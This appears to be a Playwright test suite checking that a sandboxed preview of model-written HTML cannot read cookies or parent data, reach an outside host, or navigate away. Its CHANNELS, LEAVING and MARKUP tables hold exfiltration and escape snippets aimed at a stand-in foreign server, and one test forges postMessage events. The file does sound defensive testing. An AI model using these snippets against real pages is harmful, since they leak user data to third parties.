"""A preview runs what a model wrote: it reads nothing, reaches nobody, and stays in its frame."""

import json
import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, Route, expect

from tests.support.browser.artifacts import (
    POLICY,
    address_of_artifact,
    artifact,
    open_room_with,
    preview_frame,
)
from tests.support.browser.people import OpenTab, People
from tests.support.browser.site import BrowserSite
from tests.support.browser.tab import Tab
from tests.support.foreign_server import ForeignServer, foreign_server


@pytest.fixture
def foreign() -> Iterator[ForeignServer]:
    with foreign_server() as foreign:
        yield foreign


# For each channel, the code with which a document tries to use it.
CHANNELS = {
    "fetch": "fetch('http://FOREIGN/fetch').catch(() => {})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://FOREIGN/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('http://FOREIGN/beacon', 'x')",
    "css": "add('style').textContent = '@import url(http://FOREIGN/css); body {"
    " background: url(http://FOREIGN/background) }'",
    "img": "add('img').src = 'http://FOREIGN/img'",
    "script": "add('script').src = 'http://FOREIGN/script'",
    "prefetch": "Object.assign(add('link'), {rel: 'prefetch', href: 'http://FOREIGN/prefetch'})",
    "preconnect": "Object.assign(add('link'), {rel: 'stylesheet', href: 'http://FOREIGN/style'})",
    "frame": "add('iframe').src = 'http://FOREIGN/frame'",
    "media": "add('video').src = 'http://FOREIGN/media'",
    "websocket": "new WebSocket('ws://FOREIGN/websocket')",
    "eventsource": "new EventSource('http://FOREIGN/eventsource')",
    "worker": "new Worker('data:text/javascript,fetch(`http://FOREIGN/worker`)')",
    "popup": "open('http://FOREIGN/popup')",
    "form": "const f = add('form'); f.action = 'http://FOREIGN/form'; f.submit()",
    "top": "top.location = 'http://FOREIGN/top'",
}
# These navigate the document itself away, with what it knows in the address.
LEAVING = {
    "anchor": "Object.assign(add('a'), {href: 'http://FOREIGN/anchor'}).click()",
    "refresh": "document.head.insertAdjacentHTML('beforeend',"
    " '<meta http-equiv=refresh content=\"0;url=http://FOREIGN/refresh\">')",
    "location": "location = 'http://FOREIGN/location?' + document.title",
    "inward": "location = '/?' + document.title",
}
READS = {
    "cookie": "document.cookie",
    "parent": "parent.document.title",
    "storage": "localStorage.length",
    "room": "parent.location.href",
}
# Without any script.
MARKUP = (
    "<img src=http://FOREIGN/markup-img><link rel=stylesheet href=http://FOREIGN/markup-css>"
    "<link rel='dns-prefetch preconnect prefetch' href=http://FOREIGN/markup-prefetch>"
    "<iframe src=http://FOREIGN/markup-frame></iframe><object data=http://FOREIGN/markup-object></object>"
    "<meta http-equiv=refresh content='1;url=http://FOREIGN/markup-refresh'>"
)


def hostile(host: str, leaving: str = "") -> str:
    """A document that tries every channel, notes what it could read, and navigates away at last."""
    tries = "\n".join(f"attempt('{name}', () => {{ {code} }})" for name, code in CHANNELS.items())
    reads = "\n".join(f"read('{name}', () => {code})" for name, code in READS.items())
    return f"""<!doctype html><title>hostile</title>{MARKUP}<body><p>Here.</p><script>
      window.could = {{}}; window.tried = [];
      function add(tag) {{ return document.body.appendChild(document.createElement(tag)); }}
      function read(name, take) {{ try {{ could[name] = String(take()); }} catch {{ }} }}
      function attempt(name, run) {{ tried.push(name); try {{ run(); }} catch {{ }} }}
      {reads}
      {tries}
      console.info("noted " + JSON.stringify({{could, tried, origin}}));
      setTimeout(() => {{ {leaving} }}, 400);
    </script>""".replace("FOREIGN", host)


# Longer than a hostile document waits before it navigates away.
SETTLED_MS = 800


@pytest.mark.parametrize(
    "leaving",
    [
        pytest.param(name, marks=pytest.mark.smoke) if name == "location" else name
        for name in LEAVING
    ],
)
def test_running_preview_reaches_nobody(
    site: BrowserSite, tab: OpenTab, foreign: ForeignServer, leaving: str
) -> None:
    alice = open_room_with(site, tab, artifact(hostile(foreign.host, LEAVING[leaving])))
    address = address_of_artifact(site, alice)
    windows: list[object] = []
    alice.on("popup", lambda window: windows.append(window))
    # Told by itself, because the document may be gone when it is asked.
    noted: list[str] = []
    alice.on("console", lambda one: one.text.startswith("noted ") and noted.append(one.text[6:]))

    alice.open(address)
    expect(alice.page.frame_locator(".preview-frame").get_by_text("Here.")).to_be_visible()
    quiet = preview_frame(alice).evaluate("() => [window.tried, origin]")
    alice.page.wait_for_timeout(SETTLED_MS)
    alice.button("Run").click()
    expect(alice.page.get_by_role("link", name="Stop")).to_be_visible()
    alice.until(lambda: noted, "the document has tried everything")
    alice.page.wait_for_timeout(SETTLED_MS)

    assert quiet == [None, "null"]
    assert [json.loads(one) for one in noted] == [
        {"could": {}, "tried": list(CHANNELS), "origin": "null"}
    ]
    assert foreign.hits == []
    assert alice.page.url == f"{site.url}{address}"
    assert windows == []
    assert "Tributary" not in preview_frame(alice).content()
    assert alice.violations
    alice.forget_errors()


def loosened(tab: Tab, taken: dict[str, set[str]]) -> None:
    """Removes directives from the policy of the addresses that contain a key of ``taken``.

    All requests are made by the test: the browser keeps a page of an opaque origin from this machine.
    """

    def let_through(route: Route) -> None:
        answer = route.fetch()
        parts = answer.headers.get(POLICY, "").split("; ")
        for place, directives in taken.items():
            if place in route.request.url:
                parts = [part for part in parts if part.split(" ")[0] not in directives]
        route.fulfill(response=answer, headers={**answer.headers, POLICY: "; ".join(parts)})

    tab.page.route("**/*", let_through)


# The directives to remove, by part of the address, and what the document reaches then.
ASKING = {"default-src", "connect-src", "img-src", "script-src", "style-src"}
FRAMING = {"default-src", "frame-src"}
LOOSENED = {
    "the preview may ask anybody": (
        {"/preview/": ASKING},
        {"/fetch", "/img", "/markup-img", "/xhr", "/script", "/style"},
    ),
    "both may frame anything": (
        {"/a/": FRAMING, "/preview/": {*FRAMING, "script-src"}},
        {"/frame", "/markup-frame"},
    ),
}


@pytest.mark.parametrize("name", LOOSENED)
def test_same_document_gets_out_with_a_looser_policy(
    site: BrowserSite, tab: OpenTab, foreign: ForeignServer, name: str
) -> None:
    taken, reached = LOOSENED[name]
    alice = open_room_with(site, tab, artifact(hostile(foreign.host, LEAVING["location"])))
    address = address_of_artifact(site, alice)
    loosened(alice, taken)

    # Without waiting for the frames in it: they navigate on while the page loads.
    alice.page.goto(f"{site.url}{address}", wait_until="domcontentloaded")
    alice.button("Run").click()
    alice.until(
        lambda: reached <= {hit.partition(" ")[2] for hit in foreign.hits},
        f"{reached}, {foreign.hits}",
    )

    alice.page.unroute_all(behavior="ignoreErrors")
    alice.forget_errors()


BROKEN = """<!doctype html><p>Here.</p><script>
  setTimeout(() => missing("<b>x</b>" + "y".repeat(2000)), 50);
</script>"""
# Messages that look like those of the preview, but come from other windows or are malformed.
FORGED = """() => {
  postMessage({trouble: "forged"}, "*");
  const other = document.createElement("iframe");
  other.setAttribute("sandbox", "allow-scripts");
  document.body.append(other);
  dispatchEvent(new MessageEvent("message", {data: {trouble: "forged"}, origin: "null", source: other.contentWindow}));
  dispatchEvent(new MessageEvent("message", {data: {trouble: {}}, origin: "null",
    source: document.querySelector(".preview-frame").contentWindow}));
  dispatchEvent(new MessageEvent("message", {data: {trouble: "forged"}, origin: location.origin,
    source: document.querySelector(".preview-frame").contentWindow}));
}"""


@pytest.mark.parametrize("place", ["panel", "page"])
def test_preview_error_is_put_into_the_message(site: BrowserSite, tab: OpenTab, place: str) -> None:
    alice = open_room_with(site, tab, artifact(BROKEN))
    posts = site.fake.posts
    if place == "panel":
        alice.composer.fill("Look:")
        alice.answer.get_by_role("link", name="Open Gauge").click()
    else:
        alice.open(address_of_artifact(site, alice))
    trouble = alice.page.locator(".preview-trouble")
    alice.button("Run").click()

    expect(trouble).to_contain_text("missing is not defined (line 2)")
    alice.button("Send to chat").click()

    expect(alice.composer).to_have_value(re.compile("reports an error"))
    if place == "panel":
        expect(alice.composer).to_be_focused()
    text = alice.composer.input_value()
    assert text.startswith("Look:\n\n" if place == "panel" else "The preview of")
    assert "The preview of “Gauge”, version 1, reports an error:" in text
    assert "    Uncaught ReferenceError: missing is not defined" in text
    assert site.fake.posts == posts
    alice.forget_errors()


def test_only_the_preview_itself_reports_errors(site: BrowserSite, tab: OpenTab) -> None:
    says = "parent.postMessage({trouble: '<b>x</b>' + 'y'.repeat(2000)}, '*')"
    alice = open_room_with(
        site, tab, artifact(f"<!doctype html><p>Here.<script>onclick = () => {says}</script>")
    )
    alice.open(address_of_artifact(site, alice))
    alice.button("Run").click()
    expect(alice.page.get_by_role("link", name="Stop")).to_be_visible()
    trouble = alice.page.locator(".preview-trouble")

    alice.page.evaluate(FORGED)
    alice.page.wait_for_timeout(50)
    expect(trouble).to_be_hidden()
    alice.page.frame_locator(".preview-frame").get_by_text("Here.").click()

    expect(trouble.locator(".preview-words")).to_have_text("<b>x</b>" + "y" * 492)
    alice.forget_errors()


def test_preview_is_not_served_outside_its_frame(
    site: BrowserSite, tab: OpenTab, foreign: ForeignServer, subtests: pytest.Subtests
) -> None:
    alice = open_room_with(site, tab, artifact(hostile(foreign.host)))
    alice.open(address_of_artifact(site, alice))
    alice.button("Run").click()
    expect(alice.page.get_by_role("link", name="Stop")).to_be_visible()
    source = alice.page.locator(".preview-frame").get_attribute("src")
    assert source

    for name, open_it in {"pasted": paste, "new tab": open_tab, "opened by a page": lure}.items():
        with subtests.test(msg=name):
            other = open_it(alice, f"{site.url}{source}", foreign)

            expect(other.locator("body")).to_contain_text("This preview isn’t available")
            assert "hostile" not in other.content()
            assert [hit for hit in foreign.hits if "favicon" not in hit] == []
    alice.forget_errors()


def paste(tab: Tab, address: str, foreign: ForeignServer) -> Page:
    other = tab.page.context.new_page()
    other.goto(address)
    return other


def open_tab(tab: Tab, address: str, foreign: ForeignServer) -> Page:
    with tab.page.context.expect_page() as opening:
        tab.page.evaluate("address => { window.open(address, '_blank') }", address)
    return opening.value


def lure(tab: Tab, address: str, foreign: ForeignServer) -> Page:
    """From a page of another site."""
    other = tab.page.context.new_page()
    other.goto(f"http://{foreign.host}/lure")
    foreign.hits.clear()
    other.evaluate("address => { location = address }", address)
    return other


def test_foreign_site_cannot_frame_a_preview(
    site: BrowserSite, tab: OpenTab, people: People, foreign: ForeignServer
) -> None:
    alice = open_room_with(site, tab, artifact("<h1>Gauge reading</h1>"))
    alice.open(address_of_artifact(site, alice))
    source = alice.page.locator(".preview-frame").get_attribute("src")
    page_of_theirs = people.foreign_page()
    page_of_theirs.goto(f"http://{foreign.host}/")

    page_of_theirs.evaluate(
        "address => new Promise(done => document.body.append(Object.assign("
        "document.createElement('iframe'), {src: address, id: 'stolen', onload: () => done()})))",
        f"{site.url}{source}",
    )

    frame = page_of_theirs.locator("#stolen").element_handle().content_frame()
    assert frame is not None
    assert "Gauge reading" not in frame.content()
    for each in people.tabs:
        each.forget_errors()


# --- what the page around a preview may frame ---------------------------------------------------

# The policy of a framed document does not stop it from navigating away: only the policy of the page
# around it does.
LEAVING_PAGE = """<!doctype html><p>Here.</p><script>
  setTimeout(() => { location = "http://FOREIGN/frame"; }, 50);
</script>"""


def as_it_is(policy: str) -> str:
    return policy


def widened(policy: str) -> str:
    return re.sub(r"frame-src [^;]+", "frame-src *", policy)


def removed(policy: str) -> str:
    """Also without the directive that would stand in for it."""
    return re.sub(r"(frame|default)-src [^;]+(; |$)", "", policy)


def with_policy(tab: Tab, place: str, change: Callable[[str], str]) -> list[str]:
    """The pages at this place come with a changed policy, which is returned, and nothing else does.
    Every document is fetched for the browser: for a page from nowhere, the machine is a foreign
    network."""
    policies: list[str] = []

    def let_through(route: Route) -> None:
        if route.request.resource_type != "document":
            return route.continue_()
        answer = route.fetch()
        headers = dict(answer.headers)
        if place in route.request.url:
            headers[POLICY] = change(headers[POLICY])
            policies.append(headers[POLICY])
        return route.fulfill(response=answer, headers=headers)

    tab.page.route("**/*", let_through)
    return policies


def run_preview(site: BrowserSite, tab: Tab, place: str) -> None:
    """On the artifact's own page, or beside the conversation."""
    if place == "/a/":
        tab.open(address_of_artifact(site, tab))
    else:
        tab.reload().until_ended()
        tab.answer.get_by_role("link", name="Open Gauge").click()
    expect(tab.page.frame_locator(".preview-frame").get_by_text("Here.")).to_be_visible()
    tab.button("Run").click()
    expect(tab.page.get_by_role("link", name="Stop")).to_be_visible()


@pytest.mark.parametrize("place", ["/a/", "/c/"], ids=["page", "beside the room"])
def test_running_preview_stays_in_its_frame(
    site: BrowserSite, tab: OpenTab, foreign: ForeignServer, place: str
) -> None:
    alice = open_room_with(site, tab, artifact(LEAVING_PAGE.replace("FOREIGN", foreign.host)))
    policies = with_policy(alice, place, as_it_is)

    run_preview(site, alice, place)
    alice.until(lambda: alice.violations, "it tried")
    alice.page.wait_for_timeout(SETTLED_MS)

    assert foreign.hits == []
    assert "frame-src" in policies[-1]
    alice.page.unroute_all(behavior="ignoreErrors")
    alice.forget_errors()


@pytest.mark.parametrize(("place", "change"), [("/a/", widened), ("/c/", removed)])
def test_same_preview_escapes_a_looser_page_policy(
    site: BrowserSite,
    tab: OpenTab,
    foreign: ForeignServer,
    place: str,
    change: Callable[[str], str],
) -> None:
    alice = open_room_with(site, tab, artifact(LEAVING_PAGE.replace("FOREIGN", foreign.host)))
    with_policy(alice, place, change)

    run_preview(site, alice, place)

    alice.until(lambda: foreign.hits == ["GET /frame"], "a foreign page in the frame")
    alice.page.unroute_all(behavior="ignoreErrors")
    alice.forget_errors()
